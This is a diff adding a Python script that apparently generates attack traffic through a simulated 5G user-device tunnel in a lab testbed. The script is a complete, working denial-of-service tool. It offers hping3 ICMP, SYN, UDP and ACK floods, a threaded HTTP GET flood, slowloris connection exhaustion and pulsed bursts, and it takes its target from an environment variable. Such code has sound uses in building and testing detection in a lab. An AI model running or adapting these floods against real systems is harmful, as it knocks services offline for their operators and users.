@@ -0,0 +1,168 @@
+#!/usr/bin/env python3
+"""DDoS floods sent through the UE tunnel.
+
+MODE selects the flood:
+  icmp       ICMP echo flood with hping3 (default)
+  syn        TCP SYN flood with hping3
+  udp        UDP flood with hping3
+  ack        TCP ACK flood with hping3
+  http-get   HTTP GET flood over real TCP connections
+  slowloris  low-and-slow: many connections kept open with partial requests
+  pulse      ICMP floods in on/off bursts
+
+Settings come from the environment set by the backend launcher:
+TARGET_IP, MODE, PACKET_RATE (0 floods; requests per second for http-get),
+PAYLOAD_SIZE, DST_PORT, THREADS, CONNECTIONS, BURST_SECONDS, PAUSE_SECONDS and
+DURATION (0 runs until stopped).
+"""
+
+import os
+import random
+import socket
+import subprocess
+import sys
+import threading
+import time
+
+TARGET_IP = os.environ.get("TARGET_IP", "10.42.0.99")
+MODE = os.environ.get("MODE", "icmp")
+PACKET_RATE = int(os.environ.get("PACKET_RATE", "0"))
+PAYLOAD_SIZE = int(os.environ.get("PAYLOAD_SIZE", "0"))
+DST_PORT = int(os.environ.get("DST_PORT", "80"))
+THREADS = int(os.environ.get("THREADS", "4"))
+CONNECTIONS = int(os.environ.get("CONNECTIONS", "200"))
+BURST_SECONDS = int(os.environ.get("BURST_SECONDS", "10"))
+PAUSE_SECONDS = int(os.environ.get("PAUSE_SECONDS", "10"))
+DURATION = int(os.environ.get("DURATION", "0"))
+INTERFACE = "uesimtun0"
+SO_BINDTODEVICE = getattr(socket, "SO_BINDTODEVICE", 25)
+
+HPING_FLAGS = {
+    "icmp": ["--icmp"],
+    "syn": ["-S"],
+    "udp": ["--udp"],
+    "ack": ["-A"],
+}
+
+
+def hping(mode, duration):
+    cmd = ["hping3"] + HPING_FLAGS[mode] + ["-I", INTERFACE]
+    if mode != "icmp":
+        cmd += ["-p", str(DST_PORT)]
+    if PACKET_RATE > 0:
+        cmd += ["-i", "u%d" % max(1, 1000000 // PACKET_RATE)]
+    else:
+        cmd += ["--flood"]
+    if PAYLOAD_SIZE > 0:
+        cmd += ["-d", str(PAYLOAD_SIZE)]
+    cmd.append(TARGET_IP)
+    if duration > 0:
+        cmd = ["timeout", str(duration)] + cmd
+
+    print("Starting %s flood: %s" % (mode, " ".join(cmd)), flush=True)
+    code = subprocess.call(cmd)
+    # timeout exits with 124 when the duration elapses
+    return 0 if code == 124 else code
+
+
+def tunnel_socket():
+    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    sock.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, INTERFACE.encode())
+    sock.settimeout(5)
+    sock.connect((TARGET_IP, DST_PORT))
+    return sock
+
+
+def expired(deadline):
+    return deadline is not None and time.time() >= deadline
+
+
+def http_get_flood(deadline):
+    interval = THREADS / PACKET_RATE if PACKET_RATE > 0 else 0
+    counter, lock = [0], threading.Lock()
+
+    def worker():
+        while not expired(deadline):
+            try:
+                with tunnel_socket() as sock:
+                    request = "GET /?%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n" % (
+                        random.getrandbits(32), TARGET_IP)
+                    sock.sendall(request.encode())
+                    sock.recv(1024)
+                with lock:
+                    counter[0] += 1
+                    if counter[0] % 1000 == 0:
+                        print("sent %d HTTP GET requests" % counter[0], flush=True)
+            except OSError as err:
+                print("request failed: %s" % err, flush=True)
+            if interval:
+                time.sleep(interval)
+
+    print("Starting http-get flood against %s:%d with %d threads" % (TARGET_IP, DST_PORT, THREADS), flush=True)
+    threads = [threading.Thread(target=worker, daemon=True) for _ in range(max(THREADS, 1))]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    return 0
+
+
+def slowloris(deadline):
+    def open_connection():
+        sock = tunnel_socket()
+        sock.sendall(("GET /?%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\n" % (
+            random.getrandbits(32), TARGET_IP)).encode())
+        return sock
+
+    print("Starting slowloris against %s:%d with %d connections" % (TARGET_IP, DST_PORT, CONNECTIONS), flush=True)
+    sockets = []
+    while not expired(deadline):
+        while len(sockets) < CONNECTIONS:
+            try:
+                sockets.append(open_connection())
+            except OSError as err:
+                print("connection failed: %s" % err, flush=True)
+                break
+        # Keep every connection alive with one more header line
+        for sock in list(sockets):
+            try:
+                sock.sendall(("X-a: %d\r\n" % random.getrandbits(16)).encode())
+            except OSError:
+                sockets.remove(sock)
+                sock.close()
+        print("holding %d connections open" % len(sockets), flush=True)
+        time.sleep(10)
+    for sock in sockets:
+        sock.close()
+    return 0
+
+
+def pulse(deadline):
+    while not expired(deadline):
+        burst = BURST_SECONDS
+        if deadline is not None:
+            burst = max(1, min(burst, int(deadline - time.time())))
+        hping("icmp", burst)
+        if expired(deadline):
+            break
+        print("pausing for %d seconds" % PAUSE_SECONDS, flush=True)
+        time.sleep(PAUSE_SECONDS)
+    return 0
+
+
+def main():
+    deadline = time.time() + DURATION if DURATION > 0 else None
+    if MODE in HPING_FLAGS:
+        return hping(MODE, DURATION)
+    if MODE == "http-get":
+        return http_get_flood(deadline)
+    if MODE == "slowloris":
+        return slowloris(deadline)
+    if MODE == "pulse":
+        return pulse(deadline)
+    print("unknown mode %s" % MODE, flush=True)
+    return 2
+
+
+if __name__ == "__main__":
+    sys.exit(main())